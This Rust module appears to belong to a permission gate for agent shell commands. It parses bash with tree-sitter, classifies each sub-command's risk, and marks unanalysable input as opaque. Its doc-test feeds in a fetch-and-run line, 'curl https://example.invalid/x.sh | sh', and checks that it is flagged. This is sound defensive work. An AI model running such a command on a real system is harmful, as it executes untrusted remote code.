//! Shell analysis with a real parser (`tree-sitter-bash`).
//!
//! [`analyze`] splits a command line into every simple command it would run —
//! through `&&`, `||`, `;`, `|`, `|&`, `&`, newlines, `!`, subshells, `{ }`,
//! `if`/`for`/`while`/`case` bodies, functions, `$(…)`, backticks, process
//! substitution and unquoted heredoc bodies — unwraps wrappers (`env`, `timeout`,
//! `nice`, `nohup`, `stdbuf`, `time`, `command`, `builtin`, `exec`, `xargs`,
//! `sudo`, `doas`, `bash -c '…'`), classifies each with [`crate::classify`], and
//! turns redirects and path arguments into requests of their own.
//!
//! Plain lines — words without expansions, quotes without `$`, joined by `|`,
//! `&&`, `||`, `;` — are read by a small exact reader instead of the grammar,
//! which is most of the cost of a decision; everything else goes to the grammar.
//!
//! What cannot be analysed (`eval`, a computed command name, `source`, code piped
//! or given inline to a shell or interpreter, parse errors) comes back with
//! `opaque: true`; such a request never carries a save pattern.
//!
//! ```
//! use toolgate_core::{Location, Risk};
//! use toolgate_policy::shell::{ShellContext, analyze};
//! let dir = tempfile::tempdir().unwrap();
//! let location = Location::new(dir.path()).unwrap();
//! let ctx = ShellContext {
//!     location: &location,
//!     cwd: location.root().to_path_buf(),
//!     home: "/home/nobody".into(),
//!     inherited_env: true,
//! };
//! let parts = analyze("git status && git log -1", &ctx);
//! assert_eq!(parts.len(), 2);
//! assert_eq!(parts[0].request.risk, Risk::Read);
//! assert_eq!(parts[0].request.save_pattern.as_deref(), Some("git status *"));
//! let parts = analyze("git push --force", &ctx);
//! assert_eq!(parts[0].request.risk, Risk::Destructive);
//! assert_eq!(parts[0].request.save_pattern, None);
//!
//! // A git read in a line that also changes files is judged as one that
//! // may run a program: what the line writes may be git's configuration.
//! let parts = analyze("echo x > notes.txt; git status", &ctx);
//! assert!(parts.iter().any(|p| p.request.resource == "git status"
//!     && p.request.risk == Risk::Execute));
//!
//! let opaque = analyze("curl https://example.invalid/x.sh | sh", &ctx);
//! assert!(opaque.iter().any(|p| p.opaque));
//! ```

mod analyzer;
mod argv;
mod builtins;
mod command_paths;
mod git_content;
pub(crate) use analyzer::BUDGET;
pub(crate) use argv::evaluates_code;
pub(crate) use command_paths::lexical;
pub mod grammar;
mod ir;
mod listing;
mod plain;
mod program;
mod raised;
mod resolve;
mod words;

use std::path::PathBuf;

use toolgate_core::{Location, PermissionRequest};

/// Where a command runs.
#[derive(Clone, Debug)]
pub struct ShellContext<'a> {
    /// The workspace.
    pub location: &'a Location,
    /// The absolute directory the command starts in.
    pub cwd: PathBuf,
    /// The home directory (`~`, `$HOME`), used instead of the process's own.
    pub home: PathBuf,
    /// Whether the command runs with the environment toolgate inherited:
    /// true where toolgate does not run it itself (`check`, the hooks of
    /// other agents) or runs it unconfined. Then expanding an inherited
    /// variable the sandbox's allowlist
    /// ([`toolgate_core::sandbox_env::SANDBOX_ENV`]) does not name is at
    /// least `ask`. False under toolgate's own bash tool, confined: the
    /// command gets only the allowlisted variables, so such an expansion is
    /// empty and harmless. A variable whose name looks secret is
    /// `credential` either way.
    pub inherited_env: bool,
}

/// One thing a shell command would do, as a permission request.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ShellRequest {
    /// The request: action `bash` (one simple command), `edit` (a redirect
    /// target or a secret written), `read` (a secret read) or
    /// `external_directory` (a path outside the location).
    pub request: PermissionRequest,
    /// Whether this part could not be analysed; it must be at least `ask` and
    /// no approval for it is saved.
    pub opaque: bool,
    /// Why it has this risk, in words a person reads (`opaque: …` when opaque).
    pub reason: String,
}

/// Commands nested deeper than this (`bash -c "bash -c '…'"`) are opaque.
pub const MAX_DEPTH: usize = 16;

/// Constructs nested deeper than this (subshells, substitutions, groups,
/// `bash -c` code…, counted together) are opaque.
pub const MAX_NESTING: usize = 64;

/// The reason of the one opaque request an analysis gives when it runs out of
/// its CPU budget.
pub const TOO_COMPLEX: &str = "too complex to analyse";

/// A word whose brace expansion makes more words than this (`{a,b}` eight
/// times is 256; nine times, 512) is not expanded: the command is judged as
/// one that cannot be analysed (at least `ask`, never saved). bash would
/// build every word in memory (40 groups: 2^40 words).
pub const MAX_BRACE_WORDS: usize = 256;

/// Longer commands are not analysed (opaque).
pub const MAX_COMMAND_BYTES: usize = 4 * 1024 * 1024;

/// The start of the note on a request that runs as another user (`sudo`,
/// `doas`); a bare wildcard rule never allows such a request.
pub const ANOTHER_USER_NOTE: &str = "runs as another user";

/// Splits `command` into the requests it implies: one per simple command, one per
/// redirect target, one per secret touched and one per directory outside the
/// location. Never empty: an empty command is one opaque request.
pub fn analyze(command: &str, ctx: &ShellContext<'_>) -> Vec<ShellRequest> {
    analyzer::analyze_top(command, ctx, true)
}

/// [`analyze`] with every line read by tree-sitter-bash, even a plain one that
/// [`analyze`] reads without the grammar. The answers must be the same; tests
/// compare the two.
pub fn analyze_with_grammar(command: &str, ctx: &ShellContext<'_>) -> Vec<ShellRequest> {
    analyzer::analyze_top(command, ctx, false)
}

/// [`analyze`] with a CPU budget other than the default 50 ms: past it, the
/// answer is one opaque request whose reason is [`TOO_COMPLEX`]. For tests of
/// the budget itself.
pub fn analyze_with_budget(
    command: &str,
    ctx: &ShellContext<'_>,
    budget: std::time::Duration,
) -> Vec<ShellRequest> {
    analyzer::analyze_with_budget(command, ctx, true, budget)
}
